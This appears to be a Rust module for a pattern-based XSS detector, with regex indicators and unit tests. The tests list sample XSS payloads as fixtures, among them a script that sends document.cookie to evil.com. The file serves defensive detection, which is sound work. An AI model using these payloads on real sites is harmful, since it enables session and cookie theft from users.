//! XSS pattern definitions and matching

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::sanitizer::Sanitizer;
use crate::ClassifierError;

/// Built-in XSS indicators as (name, description, pattern)
const XSS_PATTERNS: &[(&str, &str, &str)] = &[
    ("script_tag", "<script> element with body", r"(?is)<script\b.*?</script\s*>"),
    ("javascript_protocol", "javascript: URL scheme", r"(?i)javascript:"),
    ("event_handler", "inline on* event handler attribute", r"(?i)on\w+\s*="),
    ("iframe_tag", "<iframe> element", r"(?i)<iframe"),
    ("object_tag", "<object> element", r"(?i)<object"),
    ("embed_tag", "<embed> element", r"(?i)<embed"),
    ("eval_call", "eval() call", r"(?i)eval\("),
    ("css_expression", "CSS expression() call", r"(?i)expression\("),
    ("img_src", "<img> element with a src attribute", r"(?i)<img[^>]+src[^>]*>"),
];

/// A named payload indicator
#[derive(Debug, Clone)]
pub struct PayloadPattern {
    pub name: String,
    pub description: String,
    regex: Regex,
}

impl PayloadPattern {
    pub fn new(name: &str, description: &str, pattern: &str) -> Result<Self, ClassifierError> {
        let regex = Regex::new(pattern).map_err(|source| ClassifierError::InvalidPattern {
            name: name.to_string(),
            source,
        })?;

        Ok(Self {
            name: name.to_string(),
            description: description.to_string(),
            regex,
        })
    }

    pub fn is_match(&self, payload: &str) -> bool {
        self.regex.is_match(payload)
    }
}

/// Classification result for one payload
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PayloadVerdict {
    pub xss_detected: bool,
    /// Names of the patterns that matched
    pub matched: Vec<String>,
}

/// Pattern-based payload classifier
#[derive(Debug, Clone)]
pub struct PayloadClassifier {
    patterns: Vec<PayloadPattern>,
    sanitizer: Sanitizer,
}

impl PayloadClassifier {
    /// Classifier loaded with the built-in XSS indicators
    pub fn new() -> Result<Self, ClassifierError> {
        let patterns = XSS_PATTERNS
            .iter()
            .map(|(name, description, pattern)| PayloadPattern::new(name, description, pattern))
            .collect::<Result<Vec<_>, _>>()?;

        Ok(Self {
            patterns,
            sanitizer: Sanitizer::new()?,
        })
    }

    /// Register an extra indicator
    pub fn add_pattern(&mut self, name: &str, description: &str, pattern: &str) -> Result<(), ClassifierError> {
        self.patterns.push(PayloadPattern::new(name, description, pattern)?);
        Ok(())
    }

    /// True when any indicator matches. Empty payloads never match.
    pub fn is_xss_payload(&self, payload: &str) -> bool {
        !payload.is_empty() && self.patterns.iter().any(|p| p.is_match(payload))
    }

    /// Names of every matching indicator
    pub fn matched_patterns(&self, payload: &str) -> Vec<&str> {
        if payload.is_empty() {
            return Vec::new();
        }
        self.patterns
            .iter()
            .filter(|p| p.is_match(payload))
            .map(|p| p.name.as_str())
            .collect()
    }

    pub fn classify(&self, payload: &str) -> PayloadVerdict {
        let matched: Vec<String> = self
            .matched_patterns(payload)
            .into_iter()
            .map(str::to_string)
            .collect();

        PayloadVerdict {
            xss_detected: !matched.is_empty(),
            matched,
        }
    }

    /// Strip markup from a payload, keeping its text
    pub fn sanitize(&self, payload: &str) -> String {
        self.sanitizer.sanitize(payload)
    }

    /// Payload as it should be shown: sanitized in safe mode, raw otherwise
    pub fn render_payload(&self, payload: &str, safe_mode: bool) -> String {
        if safe_mode {
            self.sanitize(payload)
        } else {
            payload.to_string()
        }
    }

    pub fn patterns(&self) -> &[PayloadPattern] {
        &self.patterns
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classifier() -> PayloadClassifier {
        PayloadClassifier::new().unwrap()
    }

    #[test]
    fn test_detects_simulator_xss_samples() {
        let c = classifier();
        let samples = [
            "<script>alert('XSS')</script>",
            "<script>document.cookie</script>",
            "<img src=x onerror=alert('pwned')>",
            "<svg/onload=alert('XSS')>",
            "<iframe src=javascript:alert('XSS')>",
            "<body onload=alert('XSS')>",
            "javascript:alert('XSS')",
            "<script>fetch('https://evil.com?cookie='+document.cookie)</script>",
        ];
        for sample in samples {
            assert!(c.is_xss_payload(sample), "expected XSS: {}", sample);
        }
    }

    #[test]
    fn test_benign_requests_pass() {
        let c = classifier();
        let samples = [
            "GET /api/users",
            "POST /api/login",
            "SELECT * FROM users",
            "GET /api/products?id=123",
            "WebSocket connection established",
            "GET /static/css/main.css",
        ];
        for sample in samples {
            assert!(!c.is_xss_payload(sample), "unexpected XSS: {}", sample);
        }
    }

    #[test]
    fn test_empty_payload() {
        let c = classifier();
        assert!(!c.is_xss_payload(""));
        assert!(c.matched_patterns("").is_empty());
    }

    #[test]
    fn test_case_insensitive() {
        assert!(classifier().is_xss_payload("JaVaScRiPt:void(0)"));
    }

    #[test]
    fn test_matched_pattern_names() {
        let verdict = classifier().classify("<img src=x onerror=alert('pwned')>");
        assert!(verdict.xss_detected);
        assert!(verdict.matched.contains(&"event_handler".to_string()));
        assert!(verdict.matched.contains(&"img_src".to_string()));
    }

    #[test]
    fn test_custom_pattern() {
        let mut c = classifier();
        c.add_pattern("union_select", "SQL UNION SELECT", r"(?i)union\s+select").unwrap();
        assert!(c.is_xss_payload("1 UNION SELECT password FROM users"));
    }

    #[test]
    fn test_invalid_custom_pattern() {
        let mut c = classifier();
        let err = c.add_pattern("broken", "unbalanced", "(").unwrap_err();
        assert!(err.to_string().contains("broken"));
    }

    #[test]
    fn test_render_payload_modes() {
        let c = classifier();
        let payload = "<b>hello</b>";
        assert_eq!(c.render_payload(payload, false), payload);
        assert_eq!(c.render_payload(payload, true), "hello");
    }
}
